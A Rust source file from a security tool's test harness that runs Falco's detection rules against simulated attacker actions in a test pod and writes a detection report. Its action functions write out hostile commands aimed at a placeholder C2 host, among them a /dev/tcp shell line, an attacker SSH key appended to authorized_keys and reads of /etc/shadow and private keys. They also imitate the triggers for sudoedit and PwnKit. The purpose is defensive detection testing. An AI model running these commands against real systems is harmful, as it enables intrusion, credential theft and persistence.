@@ -1,0 +1,656 @@
+//! `cargo xtask evtgen --falco-rules FILE...`: Falco's own rule files, loaded unchanged by
+//! `lanner run`, against real behaviour. Loading them proves the rule language and field
+//! names; this proves the fields' values: a Falco rule fires under Lanner only when the
+//! values Lanner gives its fields on a real event (`proc.tty`, `proc.pname`,
+//! `proc.is_exe_upper_layer`, `fd.nameraw`, `evt.arg.request`, `fd.sport`, ...) are the
+//! ones Falco's engine would compute for the same event.
+//!
+//! The same kubelet-like pod and actions as the default pack's run ([`super::actions`]),
+//! plus a few actions that perform what some Falco rules look for and no pack action does
+//! ([`extra_actions`]: a shell on a pseudo-terminal under a process named like the
+//! container runtime's shim, a binary dropped into an overlayfs upper layer and run, ...).
+//! [`EXPECT`] names, per Falco rule, the actions that must raise it; the run fails when one
+//! of them does not. Every other rule Falco's files hold is listed with what fired it (or
+//! nothing) and, where no action can perform it here, why ([`NO_ACTION`]). Writes
+//! `docs/falco-detections.md`. The rule files are not part of this repository: pass a
+//! checkout of falcosecurity/rules (`rules/falco_rules.yaml` and the others).
+use std::{
+    collections::BTreeMap,
+    path::{Path, PathBuf},
+    process::Command,
+    time::{Duration, Instant},
+};
+
+use anyhow::{bail, Context as _, Result};
+
+use super::{act, py, sh, tool, Action, Ctx, API, C2, PUBLIC, TOOLS, WORK};
+use crate::simulate::{is_pod_alert, Agent, Pod};
+
+/// Falco rule → the actions (by name) that must raise it for the pod.
+pub(crate) const EXPECT: &[(&str, &[&str])] = &[
+    // falco_rules.yaml (stable)
+    ("Directory traversal monitored file read", &["cat ../../etc/shadow"]),
+    ("Read sensitive file trusted after startup", &["nginx reads /etc/shadow after 6 s"]),
+    ("Read sensitive file untrusted", &["cat /etc/shadow"]),
+    ("Run shell untrusted", &["nginx spawns sh", "postgres spawns sh"]),
+    ("System user interactive", &["login as nobody"]),
+    ("Terminal shell in container", &["sh on a pty under containerd-shim"]),
+    ("Contact K8S API Server From Container", &["curl API server"]),
+    ("Netcat Remote Code Execution in Container", &["nc -e reverse shell"]),
+    ("Search Private Keys or Passwords", &["grep for private keys", "find id_rsa"]),
+    ("Clear Log Activities", &["truncate /var/log file"]),
+    ("Remove Bulk Data from Disk", &["shred -u"]),
+    ("Create Symlink Over Sensitive Files", &["ln -s /etc/shadow"]),
+    ("Create Hardlink Over Sensitive Files", &["ln /etc/shadow"]),
+    ("Packet socket created in container", &["AF_PACKET socket"]),
+    ("Redirect STDOUT/STDIN to Network Connection in Container", &["bash /dev/tcp shell"]),
+    ("Linux Kernel Module Injection Detected", &["finit_module syscall"]),
+    ("Detect release_agent File Container Escapes", &["write release_agent"]),
+    ("PTRACE attached to process", &["ptrace attach"]),
+    ("PTRACE anti-debug attempt", &["ptrace TRACEME"]),
+    ("Find AWS Credentials", &["find .aws/credentials"]),
+    ("Execution from /dev/shm", &["run from /dev/shm"]),
+    ("Drop and execute new binary in container", &["drop and run in an overlay upper layer"]),
+    ("Disallowed SSH Connection Non Standard Port", &["ssh to a public host on :443"]),
+    ("Fileless execution via memfd_create", &["memfd exec"]),
+    // falco-incubating_rules.yaml
+    ("Schedule Cron Jobs", &["cron.d entry"]),
+    ("Read ssh information", &["cat /home/*/.ssh/id_rsa"]),
+    ("DB program spawned process", &["postgres spawns sh"]),
+    ("Change thread namespace", &["nsenter into host netns"]),
+    ("Change namespace privileges via unshare", &["unshare -U as uid 1000"]),
+    ("System procs network activity", &["shell connects out"]),
+    ("Program run with disallowed http proxy env", &["curl with HTTP_PROXY"]),
+    ("Unexpected UDP Traffic", &["UDP to port 1337"]),
+    ("Non sudo setuid", &["setuid(0) as uid 1000"]),
+    ("Create files below dev", &["file in /dev"]),
+    ("Contact EC2 Instance Metadata Service From Container", &["curl metadata service"]),
+    ("Contact cloud metadata service from container", &["curl metadata service"]),
+    ("Launch Package Management Process in Container", &["apt-get in pod"]),
+    ("Launch Suspicious Network Tool in Container", &["nc -e reverse shell", "nmap scan", "nc -z probe"]),
+    ("Delete or rename shell history", &["rm .bash_history", "truncate .zsh_history"]),
+    ("Set Setuid or Setgid bit", &["chmod u+s", "chmod g+s"]),
+    ("Launch Remote File Copy Tools in Container", &["scp out", "rsync out"]),
+    ("Launch Ingress Remote File Copy Tools in Container", &["curl -o /tmp"]),
+    ("Read environment variable from /proc files", &["cat /proc/PID/environ"]),
+    ("Exfiltrating Artifacts via Kubernetes Control Plane", &["kubectl cp (tar under containerd-shim)"]),
+    ("Adding ssh keys to authorized_keys", &["append /home/*/.ssh/authorized_keys"]),
+    ("Potential Local Privilege Escalation via Environment Variables Misuse", &["GLIBC_TUNABLES env"]),
+    ("Backdoored library loaded into SSHD (CVE-2024-3094)", &["sshd opens liblzma.so.5.6.1"]),
+    ("BPF Program Not Profiled", &["bpf(BPF_PROG_LOAD)"]),
+    // falco-sandbox_rules.yaml
+    ("Update Package Repository", &["write /etc/apt/sources.list.d"]),
+    ("Write below monitored dir", &["write /usr/local/bin"]),
+    ("Write below etc", &["write /etc file", "cron.d entry", "sudoers.d drop-in"]),
+    ("Detect crypto miners using the Stratum protocol", &["stratum URL"]),
+    ("Kubernetes Client Tool Launched in Container", &["kubectl in pod"]),
+    ("Sudo Potential Privilege Escalation", &["sudoedit -s 'x\\' as uid 1000"]),
+    ("Unprivileged Delegation of Page Faults Handling to a Userspace Process", &["userfaultfd (uid 1000)"]),
+    ("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", &["pkexec without arguments as uid 1000"]),
+    ("Decoding Payload in Container", &["base64 -d | sh"]),
+    ("Basic Interactive Reconnaissance", &["id on a terminal"]),
+    ("Known Cryptominer Process Executed", &["xmrig"]),
+    ("Web Server Spawned Shell", &["nginx spawns sh"]),
+    ("Web Server Spawned Suspicious Child Process", &["nginx spawns sh"]),
+    ("Reverse Shell from Web Server", &["nginx spawns a /dev/tcp shell"]),
+];
+
+/// Falco rule → why no action here can raise it.
+pub(crate) const NO_ACTION: &[(&str, &str)] = &[
+    ("Debugfs Launched in Privileged Container", PRIVILEGED),
+    ("Mount Launched in Privileged Container", PRIVILEGED),
+    ("Privileged Container Device Access", PRIVILEGED),
+    ("Launch Privileged Container", CONTAINER_START),
+    ("Launch Excessively Capable Container", CONTAINER_START),
+    ("Launch Sensitive Mount Container", CONTAINER_START),
+    ("Launch Disallowed Container", CONTAINER_START),
+    ("Container Access to Host Sensitive Paths", "needs hostPath mounts of host directories; evtgen's pod has none"),
+    ("User mgmt binaries", HOST_ONLY),
+    ("Launch Suspicious Network Tool on Host", HOST_ONLY),
+    ("Netcat/Socat Remote Code Execution on Host", HOST_ONLY),
+    (
+        "Network Connection outside Local Subnet",
+        "scoped to the namespaces of the list `namespace_scope_network_only_subnet`, empty in Falco's file",
+    ),
+    (
+        "Modify Shell Configuration File",
+        "excludes shell processes, which is how the `~/.bashrc append` action writes (the default pack's rule keeps them)",
+    ),
+];
+
+const PRIVILEGED: &str = "needs a privileged container (`container.privileged=true`); evtgen's pod is not \
+     privileged, so the matching action rightly does not raise it";
+const CONTAINER_START: &str = "fires when a container starts (its pid-namespace init, `proc.vpid=1`); \
+     evtgen's pod has no pid namespace of its own";
+const HOST_ONLY: &str = "excludes containers (`not container`); evtgen acts inside a pod";
+
+/// Actions for Falco rules no default-pack action performs. Their `rule` is the Falco
+/// rule they are written for (each is also in [`EXPECT`]).
+pub(crate) fn extra_actions() -> Vec<Action> {
+    vec![
+        act!("cat ../../etc/shadow", "Directory traversal monitored file read", "T1555", traversal),
+        act!("nginx reads /etc/shadow after 6 s", "Read sensitive file trusted after startup", "T1555", late_read),
+        act!("login as nobody", "System user interactive", "T1059", system_user_login),
+        act!("sh on a pty under containerd-shim", "Terminal shell in container", "T1059", pty_shell),
+        act!("find .aws/credentials", "Find AWS Credentials", "T1552", find_aws),
+        act!("drop and run in an overlay upper layer", "Drop and execute new binary in container", "T1610", drop_ovl),
+        act!("ssh to a public host on :443", "Disallowed SSH Connection Non Standard Port", "T1059", ssh_443),
+        act!("cat /home/*/.ssh/id_rsa", "Read ssh information", "T1005", home_ssh_read),
+        act!("append /home/*/.ssh/authorized_keys", "Adding ssh keys to authorized_keys", "T1098.004", home_ssh_key),
+        act!("unshare -U as uid 1000", "Change namespace privileges via unshare", "T1611", unshare_user),
+        act!("curl with HTTP_PROXY", "Program run with disallowed http proxy env", "T1090", http_proxy),
+        act!("UDP to port 1337", "Unexpected UDP Traffic", "T1095", udp_1337),
+        act!(
+            "kubectl cp (tar under containerd-shim)",
+            "Exfiltrating Artifacts via Kubernetes Control Plane",
+            "T1020",
+            kubectl_cp
+        ),
+        act!(
+            "sshd opens liblzma.so.5.6.1",
+            "Backdoored library loaded into SSHD (CVE-2024-3094)",
+            "T1554",
+            sshd_liblzma
+        ),
+        act!("write /etc/apt/sources.list.d", "Update Package Repository", "T1072", apt_source),
+        act!("sudoedit -s 'x\\' as uid 1000", "Sudo Potential Privilege Escalation", "T1548.003", sudoedit),
+        act!(
+            "pkexec without arguments as uid 1000",
+            "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
+            "T1068",
+            pkexec
+        ),
+        act!("nginx spawns a /dev/tcp shell", "Reverse Shell from Web Server", "T1190", web_reverse_shell),
+    ]
+}
+
+/// A user's home on the host (`/home/*`, where Falco's ssh macros look), removed after the run.
+const HOME: &str = "/home/lnr-evtgen";
+/// What the cluster's DNS answers for the API server's service name (its ClusterIP,
+/// [`API`]), in /etc/hosts for the run: the agent resolves the names Falco's rules
+/// compare `fd.sip.name` with, as it would through the cluster's DNS.
+fn hosts_line() -> String {
+    format!("{API} kubernetes.default.svc.cluster.local # lnr-evtgen")
+}
+const APT_SOURCE: &str = "/etc/apt/sources.list.d/lnr-evtgen.list";
+
+/// The overlay mount [`drop_ovl`] writes into: lower, upper and work directories beside it.
+fn ovl() -> PathBuf {
+    Path::new(WORK).join("ovl")
+}
+
+/// Host set-up for [`extra_actions`], as an image or a runtime would provide it: `login`
+/// (a copy of /bin/true), `containerd-shim` (python3 under the shim's process name) and
+/// an overlayfs mount (a container root's kind of file system).
+fn prepare() -> Result<()> {
+    for t in ["login", "pkexec", "sudoedit"] {
+        std::fs::copy("/bin/true", Path::new(TOOLS).join(t)).with_context(|| format!("install {t}"))?;
+    }
+    std::fs::copy("/bin/bash", Path::new(TOOLS).join("sshd")).context("install sshd")?;
+    std::fs::write(Path::new(WORK).join("liblzma.so.5.6.1"), "lnr-evtgen\n")?;
+    std::fs::create_dir_all(Path::new(HOME).join(".ssh"))?;
+    std::fs::write(Path::new(HOME).join(".ssh/id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----\nlnr-evtgen fake\n")?;
+    let _ = std::fs::remove_file(Path::new(TOOLS).join("containerd-shim"));
+    std::os::unix::fs::symlink("/usr/bin/python3", Path::new(TOOLS).join("containerd-shim"))?;
+    let o = ovl();
+    for d in ["lower", "upper", "work", "merged"] {
+        std::fs::create_dir_all(o.join(d))?;
+    }
+    let opts = format!(
+        "lowerdir={},upperdir={},workdir={}",
+        o.join("lower").display(),
+        o.join("upper").display(),
+        o.join("work").display()
+    );
+    crate::sh(Command::new("mount").args(["-t", "overlay", "overlay", "-o", &opts]).arg(o.join("merged")))
+}
+
+/// Before the agent starts: the API server's service name in /etc/hosts.
+fn hosts_add() -> Result<()> {
+    hosts_remove();
+    let mut h = std::fs::read_to_string("/etc/hosts")?;
+    if !h.ends_with('\n') && !h.is_empty() {
+        h.push('\n');
+    }
+    h.push_str(&hosts_line());
+    h.push('\n');
+    std::fs::write("/etc/hosts", h).context("/etc/hosts")
+}
+
+fn hosts_remove() {
+    if let Ok(h) = std::fs::read_to_string("/etc/hosts") {
+        if h.contains("# lnr-evtgen") {
+            let kept: String = h.lines().filter(|l| !l.ends_with("# lnr-evtgen")).map(|l| format!("{l}\n")).collect();
+            let _ = std::fs::write("/etc/hosts", kept);
+        }
+    }
+}
+
+/// Undo [`prepare`] and [`hosts_add`] (what `host::cleanup` does not cover).
+fn cleanup() {
+    unmount();
+    hosts_remove();
+    let _ = std::fs::remove_dir_all(HOME);
+    let _ = std::fs::remove_file(APT_SOURCE);
+}
+
+fn unmount() {
+    let m = std::ffi::CString::new(ovl().join("merged").to_string_lossy().as_bytes()).expect("path");
+    unsafe { libc::umount2(m.as_ptr(), libc::MNT_DETACH) };
+}
+
+fn traversal(c: &Ctx) -> Result<()> {
+    // The pod's working directory is WORK, two levels below /.
+    c.pod.run("cat", &["../../etc/shadow"], None, None)
+}
+
+fn late_read(c: &Ctx) -> Result<()> {
+    // A server (bash under nginx's name) that has run for more than 5 s opens /etc/shadow itself.
+    tool(c, "nginx", &["-c", "sleep 6; exec 3</etc/shadow"])
+}
+
+fn system_user_login(c: &Ctx) -> Result<()> {
+    c.pod.run(&format!("{TOOLS}/login"), &[], Some(65534), None)
+}
+
+fn pty_shell(c: &Ctx) -> Result<()> {
+    // As `kubectl exec -it`: the shell's controlling terminal is a pty, its parent the shim.
+    tool(
+        c,
+        "containerd-shim",
+        &["-c", "import os, pty\npid, fd = pty.fork()\nif pid == 0:\n    os.execv('/bin/sh', ['sh', '-c', 'exit 0'])\nos.waitpid(pid, 0)"],
+    )
+}
+
+fn find_aws(c: &Ctx) -> Result<()> {
+    c.pod.run("find", &[WORK, "-path", "*/.aws/credentials"], None, None)
+}
+
+fn drop_ovl(c: &Ctx) -> Result<()> {
+    let m = ovl().join("merged");
+    sh(c, &format!("cp /bin/true {0}/dropped && {0}/dropped", m.display()))
+}
+
+fn home_ssh_read(c: &Ctx) -> Result<()> {
+    c.pod.run("cat", &[&format!("{HOME}/.ssh/id_rsa")], None, None)
+}
+
+fn home_ssh_key(c: &Ctx) -> Result<()> {
+    sh(c, &format!("echo 'ssh-ed25519 AAAAC3lnrevtgen attacker' >> {HOME}/.ssh/authorized_keys"))
+}
+
+fn unshare_user(c: &Ctx) -> Result<()> {
+    // Without CAP_SYS_ADMIN (an unprivileged user); refused or not, the attempt is the behaviour.
+    c.pod.run("unshare", &["-U", "true"], Some(1000), None)
+}
+
+fn http_proxy(c: &Ctx) -> Result<()> {
+    let url = format!("http://{C2}:8080/healthz");
+    let proxy = format!("HTTP_PROXY=http://{C2}:8080");
+    c.pod.run("env", &[&proxy, "curl", "-s", "-m", "2", "-o", "/dev/null", &url], None, None)
+}
+
+fn udp_1337(c: &Ctx) -> Result<()> {
+    py(c, &format!("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('{C2}', 1337))\ns.send(b'hi')"), None)
+}
+
+fn kubectl_cp(c: &Ctx) -> Result<()> {
+    // `kubectl cp pod:/data .` runs `tar cf - /data` in the container through the runtime.
+    tool(
+        c,
+        "containerd-shim",
+        &[
+            "-c",
+            &format!("import subprocess\nsubprocess.run(['tar', 'cf', '-', '{WORK}/data'], stdout=subprocess.DEVNULL)"),
+        ],
+    )
+}
+
+fn sshd_liblzma(c: &Ctx) -> Result<()> {
+    // The daemon (bash under sshd's name) opens a library file of the backdoored versions.
+    tool(c, "sshd", &["-c", &format!("exec 3<{WORK}/liblzma.so.5.6.1")])
+}
+
+fn apt_source(c: &Ctx) -> Result<()> {
+    sh(c, &format!("echo 'deb http://{C2}/debian stable main' > {APT_SOURCE}"))
+}
+
+fn sudoedit(c: &Ctx) -> Result<()> {
+    // CVE-2021-3156's trigger: a shell-mode sudoedit whose argument ends in a backslash.
+    c.pod.run(&format!("{TOOLS}/sudoedit"), &["-s", "x\\"], Some(1000), None)
+}
+
+fn pkexec(c: &Ctx) -> Result<()> {
+    // CVE-2021-4034 (PwnKit): pkexec with no arguments (the exploit passes an empty argv,
+    // which std cannot; Falco's rule looks at the empty argument string either way).
+    c.pod.run(&format!("{TOOLS}/pkexec"), &[], Some(1000), None)
+}
+
+fn web_reverse_shell(c: &Ctx) -> Result<()> {
+    // `; exit` keeps the server's bash from exec'ing the shell in its own place.
+    tool(c, "nginx", &["-c", &format!("bash -c 'echo id >/dev/tcp/{C2}/443'; exit $?")])
+}
+
+fn ssh_443(c: &Ctx) -> Result<()> {
+    let target = format!("evt@{PUBLIC}");
+    c.pod.run(
+        "timeout",
+        &[
+            "3",
+            "ssh",
+            "-p",
+            "443",
+            "-o",
+            "BatchMode=yes",
+            "-o",
+            "ConnectTimeout=2",
+            "-o",
+            "StrictHostKeyChecking=no",
+            &target,
+            "id",
+        ],
+        None,
+        None,
+    )
+}
+
+/// One rule of the loaded files, as `lanner rules check` lists it.
+struct FalcoRule {
+    name: String,
+    at: String,
+    state: String,
+}
+
+/// The rules of `files`, in order, from `lanner rules check` (which must load them).
+fn list_rules(files: &[PathBuf]) -> Result<Vec<FalcoRule>> {
+    let out = Command::new(crate::lanner_bin()).args(["rules", "check"]).args(files).output()?;
+    if !out.status.success() {
+        bail!("lanner rules check failed:\n{}", String::from_utf8_lossy(&out.stderr));
+    }
+    let v = parse_check(&String::from_utf8_lossy(&out.stdout));
+    if v.is_empty() {
+        bail!("lanner rules check listed no rules for {files:?}");
+    }
+    Ok(v)
+}
+
+/// The rule lines of `lanner rules check`'s table: name, `file:line:col` and state,
+/// in columns two or more spaces apart.
+fn parse_check(out: &str) -> Vec<FalcoRule> {
+    let mut v = Vec::new();
+    for l in out.lines() {
+        let cols: Vec<&str> = l.split("  ").map(str::trim).filter(|c| !c.is_empty()).collect();
+        if let [name, at, state] = cols[..] {
+            if at.contains(".yaml:") {
+                v.push(FalcoRule { name: name.into(), at: at.into(), state: state.into() });
+            }
+        }
+    }
+    v
+}
+
+pub(crate) fn run(files: &[PathBuf]) -> Result<()> {
+    if !crate::is_root() {
+        bail!("evtgen needs root (eBPF, cgroups, network namespaces)");
+    }
+    let t = Instant::now();
+    if !crate::lanner_bin().exists() {
+        crate::sh(crate::cargo().args(["build", "--release", "-p", "lanner"]))?;
+    }
+    let files: Vec<PathBuf> =
+        files.iter().map(|f| f.canonicalize().with_context(|| format!("{}", f.display()))).collect::<Result<_>>()?;
+    let rules = list_rules(&files)?;
+    let mut table = super::actions();
+    table.extend(extra_actions());
+    let mut problems = Vec::new();
+    for (rule, acts) in EXPECT {
+        for a in *acts {
+            if !table.iter().any(|x| x.name == *a) {
+                problems.push(format!("EXPECT '{rule}': no action '{a}'"));
+            }
+        }
+    }
+    if !problems.is_empty() {
+        bail!("{}", problems.join("\n"));
+    }
+    let args: Vec<String> = files.iter().map(|f| format!("--rules={}", f.display())).collect();
+    cleanup();
+    hosts_add()?;
+    let r = super::with_kube(|kube| {
+        super::in_pod(kube, &args, |agent, pod| {
+            prepare()?;
+            play(agent, pod, &files, &rules, &table)
+        })
+    });
+    cleanup();
+    eprintln!("xtask: evtgen --falco-rules finished in {:.0} s", t.elapsed().as_secs_f64());
+    r
+}
+
+/// The Falco rules raised for the pod since `mark` (with their priority: `with_prio`).
+fn fired_as(agent: &Agent, pod: &Pod, mark: usize, with_prio: bool) -> Vec<String> {
+    let mut v: Vec<String> = agent.alerts.lock().expect("alerts")[mark..]
+        .iter()
+        .filter(|s| is_pod_alert(&s.alert, pod))
+        .filter_map(|s| {
+            let rule = s.alert.get("rule").and_then(|r| r.as_str())?;
+            let prio = s.alert.get("priority").and_then(|r| r.as_str()).unwrap_or("?");
+            Some(if with_prio { format!("{rule} [{prio}]") } else { rule.to_string() })
+        })
+        .collect();
+    v.sort();
+    v.dedup();
+    v
+}
+
+fn fired(agent: &Agent, pod: &Pod, mark: usize) -> Vec<String> {
+    fired_as(agent, pod, mark, false)
+}
+
+fn play(agent: &Agent, pod: &Pod, files: &[PathBuf], rules: &[FalcoRule], table: &[Action]) -> Result<()> {
+    let mut main = pod.cmd("sleep", &["900"], None).spawn().context("pod main process")?;
+    std::thread::sleep(Duration::from_millis(300));
+    let ctx = Ctx { pod, main_pid: main.id() };
+    // Falco rule → actions that raised it; actions not observable here.
+    let mut by_rule: BTreeMap<String, Vec<&'static str>> = BTreeMap::new();
+    let mut skipped: BTreeMap<&'static str, String> = BTreeMap::new();
+    for a in table {
+        if let Some(why) = (a.unobservable)() {
+            skipped.insert(a.name, why);
+            continue;
+        }
+        let want: Vec<&str> = EXPECT.iter().filter(|(_, acts)| acts.contains(&a.name)).map(|(r, _)| *r).collect();
+        let mark = agent.mark();
+        (a.run)(&ctx).with_context(|| format!("action {:?}", a.name))?;
+        // Wait for what the action must raise (or a short window when nothing is expected).
+        let deadline = Instant::now() + Duration::from_millis(if want.is_empty() { 300 } else { 3000 });
+        let mut got = fired(agent, pod, mark);
+        while Instant::now() < deadline && !want.iter().all(|w| got.iter().any(|g| g == w)) {
+            std::thread::sleep(Duration::from_millis(20));
+            got = fired(agent, pod, mark);
+        }
+        std::thread::sleep(Duration::from_millis(150));
+        got = fired(agent, pod, mark);
+        eprintln!(
+            "xtask: evtgen --falco-rules {:<40} {}",
+            a.name,
+            if got.is_empty() { "-".into() } else { got.join(", ") }
+        );
+        for r in got {
+            by_rule.entry(r).or_default().push(a.name);
+        }
+    }
+    std::thread::sleep(Duration::from_millis(500));
+    let mark = agent.mark();
+    super::benign::run(pod)?;
+    std::thread::sleep(Duration::from_secs(2));
+    let _ = main.kill();
+    let _ = main.wait();
+    let benign = fired_as(agent, pod, mark, true);
+    report(files, rules, &by_rule, &skipped, &benign)
+}
+
+/// The verdict on one rule: the table cell and whether it is a failure.
+fn verdict(
+    rule: &FalcoRule,
+    by_rule: &BTreeMap<String, Vec<&'static str>>,
+    skipped: &BTreeMap<&'static str, String>,
+) -> (String, String, bool) {
+    if let Some((_, acts)) = EXPECT.iter().find(|(r, _)| *r == rule.name) {
+        let run: Vec<&str> = acts.iter().copied().filter(|a| !skipped.contains_key(a)).collect();
+        let missed: Vec<&str> =
+            run.iter().copied().filter(|a| !by_rule.get(&rule.name).is_some_and(|v| v.contains(a))).collect();
+        return if run.is_empty() {
+            let why: Vec<&str> = acts.iter().filter_map(|a| skipped.get(a).map(String::as_str)).collect();
+            (acts.join(", "), format!("not observable here: {}", why.join("; ")), false)
+        } else if !missed.is_empty() {
+            (acts.join(", "), format!("**MISSED** by {}", missed.join(", ")), true)
+        } else {
+            (acts.join(", "), "detected".into(), false)
+        };
+    }
+    if let Some((_, why)) = NO_ACTION.iter().find(|(r, _)| *r == rule.name) {
+        return ("—".into(), format!("no action: {why}"), false);
+    }
+    if !rule.state.starts_with("active") {
+        return ("—".into(), "inactive".into(), false);
+    }
+    ("—".into(), "no action written for it yet".into(), false)
+}
+
+fn report(
+    files: &[PathBuf],
+    rules: &[FalcoRule],
+    by_rule: &BTreeMap<String, Vec<&'static str>>,
+    skipped: &BTreeMap<&'static str, String>,
+    benign: &[String],
+) -> Result<()> {
+    let mut table = String::from("| rule | file:line | state | expected action(s) | fired by (all actions) | verdict |\n|---|---|---|---|---|---|\n");
+    // Per file, in the order given: rules, active, detected, raised, missed, not
+    // observable, no action possible here, no action yet.
+    let mut per_file: Vec<(String, [usize; 8])> = Vec::new();
+    let mut missed = Vec::new();
+    for r in rules {
+        let (expected, v, fail) = verdict(r, by_rule, skipped);
+        let fired = by_rule.get(&r.name).map(|v| v.join(", ")).unwrap_or_default();
+        let at = Path::new(&r.at).file_name().map(|f| f.to_string_lossy().into_owned()).unwrap_or_default();
+        let at = at.rsplit_once(':').map(|(a, _)| a.to_string()).unwrap_or(at);
+        let file = at.split(':').next().unwrap_or("").to_string();
+        if per_file.last().is_none_or(|(f, _)| *f != file) {
+            per_file.push((file, [0; 8]));
+        }
+        let c = &mut per_file.last_mut().expect("file").1;
+        let active = r.state.starts_with("active");
+        c[0] += 1;
+        c[1] += usize::from(active);
+        c[2] += usize::from(v == "detected");
+        c[3] += usize::from(!fired.is_empty());
+        c[4] += usize::from(fail);
+        c[5] += usize::from(v.starts_with("not observable"));
+        c[6] += usize::from(v.starts_with("no action:"));
+        c[7] += usize::from(active && v.starts_with("no action written"));
+        if fail {
+            missed.push(format!("{}: {v}", r.name));
+        }
+        let state = if r.state.starts_with("active") { "active".into() } else { r.state.replace('|', "/") };
+        table.push_str(&format!(
+            "| {} | {at} | {state} | {expected} | {} | {v} |\n",
+            r.name,
+            if fired.is_empty() { "—" } else { &fired }
+        ));
+    }
+    let mut summary = String::new();
+    for (f, c) in &per_file {
+        summary.push_str(&format!(
+            "- `{f}`: {} rules, {} active; **{} detected by the real action written for them**, {} missed, \
+             {} not observable on this host, {} that no action in evtgen's pod can raise (why in the table), \
+             {} without an action yet; {} raised by at least one action.\n",
+            c[0], c[1], c[2], c[4], c[5], c[6], c[7], c[3]
+        ));
+    }
+    summary.push_str(&format!(
+        "- Benign phase (the default pack's benign workload, [detections.md](detections.md)): {}.\n",
+        if benign.is_empty() {
+            "no Falco rule fired".into()
+        } else {
+            format!("Falco's rules raised {}", benign.join(", "))
+        }
+    ));
+    let mut sums = String::new();
+    for f in files {
+        let out = Command::new("sha256sum").arg(f).output()?;
+        let sum = String::from_utf8_lossy(&out.stdout).split_whitespace().next().unwrap_or("?").to_string();
+        sums.push_str(&format!(
+            "`{}` (sha256 {})",
+            f.file_name().unwrap_or_default().to_string_lossy(),
+            &sum[..16.min(sum.len())]
+        ));
+        sums.push_str(if f == files.last().expect("files") { "" } else { ", " });
+    }
+    let date = Command::new("date").args(["-u", "+%Y-%m-%d %H:%M UTC"]).output()?.stdout;
+    let kernel = Command::new("uname").arg("-r").output()?.stdout;
+    let doc = format!(
+        "# Falco's own rules against real behaviour\n\n\
+         Generated by `cargo xtask evtgen --falco-rules FILE...` (as root; do not edit). Falco's rule files,\n\
+         loaded unchanged by `lanner run`, watch the same kubelet-like pod and real actions as the default\n\
+         pack's run ([detections.md](detections.md)), plus actions written for Falco rules no pack action\n\
+         performs (`xtask/src/evtgen/falco.rs`). A rule is **detected** when every action written for it\n\
+         raised it for the pod. Loading a file proves the rule language and field names; this proves the\n\
+         values Lanner gives Falco's fields on real events. The files are not in this repository: pass a\n\
+         checkout of falcosecurity/rules.\n\n\
+         ```\ncargo xtask evtgen --falco-rules rules/falco_rules.yaml --falco-rules rules/falco-incubating_rules.yaml \\\n    --falco-rules rules/falco-sandbox_rules.yaml\n```\n\n\
+         ## Latest run\n\n{}, kernel {}, files {sums}.\n\n{summary}\n{table}",
+        String::from_utf8_lossy(&date).trim(),
+        String::from_utf8_lossy(&kernel).trim(),
+    );
+    println!("\n{table}\n{summary}");
+    std::fs::write(crate::root().join("docs/falco-detections.md"), doc)?;
+    eprintln!("xtask: wrote docs/falco-detections.md");
+    if !missed.is_empty() {
+        bail!("Falco rules missed by their actions:\n{}", missed.join("\n"));
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_expected_action_exists_and_every_extra_action_is_expected() {
+        let mut table = super::super::actions();
+        table.extend(extra_actions());
+        for (rule, acts) in EXPECT {
+            assert!(!acts.is_empty(), "{rule}: no action");
+            for a in *acts {
+                assert!(table.iter().any(|x| x.name == *a), "EXPECT '{rule}': no action '{a}'");
+            }
+            assert_eq!(EXPECT.iter().filter(|(r, _)| r == rule).count(), 1, "'{rule}' twice in EXPECT");
+            assert!(!NO_ACTION.iter().any(|(r, _)| r == rule), "'{rule}' in EXPECT and NO_ACTION");
+        }
+        for a in extra_actions() {
+            let e = EXPECT.iter().find(|(r, _)| *r == a.rule);
+            assert!(
+                e.is_some_and(|(_, acts)| acts.contains(&a.name)),
+                "extra action '{}' not expected of '{}'",
+                a.name,
+                a.rule
+            );
+            assert_eq!(table.iter().filter(|x| x.name == a.name).count(), 1, "action name '{}' twice", a.name);
+        }
+    }
+
+    #[test]
+    fn the_check_table_parses_into_rules_with_their_state() {
+        let out = "Terminal shell in container      /r/falco_rules.yaml:713:9   active\n\
+                   Read Shell Configuration File    /r/falco-sandbox_rules.yaml:307:9   inactive: disabled (enabled: false)\n\
+                   25 rules: 25 active, 0 inactive; 1 file(s), 1 warning(s)\n";
+        let v = parse_check(out);
+        assert_eq!(v.len(), 2);
+        assert_eq!(
+            (v[0].name.as_str(), v[0].at.as_str(), v[0].state.as_str()),
+            ("Terminal shell in container", "/r/falco_rules.yaml:713:9", "active")
+        );
+        assert_eq!(v[1].state, "inactive: disabled (enabled: false)");
+    }
+}
